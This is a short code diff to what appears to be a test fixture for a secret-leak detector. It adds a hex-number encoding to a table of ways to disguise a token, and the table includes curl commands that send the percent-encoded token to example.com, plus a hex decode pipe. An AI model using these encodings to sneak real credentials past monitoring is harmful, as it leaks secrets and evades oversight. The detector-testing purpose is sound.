@@ -69,6 +69,7 @@ export const ENCODINGS: Readonly<Record<string, (token: string) => string>> = {
     `x=${Buffer.from(Buffer.from(`token=${token}`).toString('base64')).toString('base64')}`,
   base64url: (token) => `x=${Buffer.from(`token=${token}`).toString('base64url')}`,
   hex: (token) => `printf ${Buffer.from(`token=${token}`).toString('hex')} | xxd -r -p`,
+  'hex number': (token) => `const t = 0x${Buffer.from(token).toString('hex')}n;`,
   percent: (token) => `curl 'https://example.com/?q=token%3D${encodeURIComponent(token)}%26a'`,
   'percent, every character': (token) =>
     `curl 'https://example.com/?q=${[...token].map((char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`,
